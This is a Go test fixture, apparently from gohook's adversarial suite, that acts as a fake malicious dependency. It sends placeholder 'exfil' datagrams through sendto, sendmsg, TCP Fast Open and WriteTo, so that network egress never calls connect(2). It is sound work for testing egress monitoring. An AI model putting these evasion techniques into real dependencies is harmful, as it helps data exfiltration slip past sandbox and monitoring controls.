// Package exporter is a fake malicious dependency for gohook's adversarial suite: network egress without connect(2): sendto/sendmsg with a destination, TCP Fast Open (issue 12 §2).
//
// Techniques maps a technique name (`evasion NAME ARGS...`) to its code; main registers them all.
package exporter

import (
	"fmt"
	"net"
	"strconv"
	"syscall"
)

// Techniques: technique name -> run(args); an error makes the program exit 1.
var Techniques = map[string]func(args []string) error{
	"egress-udp":       udp,
	"egress-tfo":       tfo,
	"egress-sendmsg":   sendmsg,
	"egress-writeto":   writeTo,
	"egress-connected": connected,
}

const msgFastOpen = 0x20000000 // MSG_FASTOPEN (not in package syscall)

// sockaddr parses "127.0.0.1:PORT" into a SockaddrInet4.
func sockaddr(addr string) (*syscall.SockaddrInet4, error) {
	host, port, err := net.SplitHostPort(addr)
	if err != nil {
		return nil, err
	}
	p, err := strconv.Atoi(port)
	if err != nil {
		return nil, err
	}
	ip := net.ParseIP(host).To4()
	if ip == nil {
		return nil, fmt.Errorf("not an IPv4 address: %s", host)
	}
	sa := &syscall.SockaddrInet4{Port: p}
	copy(sa.Addr[:], ip)
	return sa, nil
}

// udp: a datagram out of an unconnected UDP socket, no connect(2) anywhere.
func udp(args []string) error {
	sa, err := sockaddr(args[0])
	if err != nil {
		return err
	}
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_DGRAM, 0)
	if err != nil {
		return err
	}
	defer syscall.Close(fd)
	if err := syscall.Sendto(fd, []byte("udp-exfil"), 0, sa); err != nil {
		return err
	}
	fmt.Println("sent")
	return nil
}

// tfo: TCP Fast Open: sendto with MSG_FASTOPEN on an unconnected stream socket connects and carries the data.
func tfo(args []string) error {
	sa, err := sockaddr(args[0])
	if err != nil {
		return err
	}
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	defer syscall.Close(fd)
	if err := syscall.Sendto(fd, []byte("tfo-exfil"), msgFastOpen, sa); err != nil {
		return err
	}
	fmt.Println("sent")
	return nil
}

// sendmsg: a datagram through sendmsg(2) with msg_name set.
func sendmsg(args []string) error {
	sa, err := sockaddr(args[0])
	if err != nil {
		return err
	}
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_DGRAM, 0)
	if err != nil {
		return err
	}
	defer syscall.Close(fd)
	if _, err := syscall.SendmsgN(fd, []byte("sendmsg-exfil"), nil, sa, 0); err != nil {
		return err
	}
	fmt.Println("sent")
	return nil
}

// writeTo: the standard library's way: a bound UDP socket (network.listen) and WriteTo an address.
func writeTo(args []string) error {
	dst, err := net.ResolveUDPAddr("udp4", args[0])
	if err != nil {
		return err
	}
	pc, err := net.ListenPacket("udp4", "127.0.0.1:0")
	if err != nil {
		return err
	}
	defer pc.Close()
	if _, err := pc.WriteTo([]byte("writeto-exfil"), dst); err != nil {
		return err
	}
	fmt.Println("sent")
	return nil
}

// connected: the negative control: a connected UDP socket (network.connect at the dial), then a plain Write.
func connected(args []string) error {
	c, err := net.Dial("udp4", args[0])
	if err != nil {
		return err
	}
	defer c.Close()
	if _, err := c.Write([]byte("connected-ok")); err != nil {
		return err
	}
	fmt.Println("sent")
	return nil
}
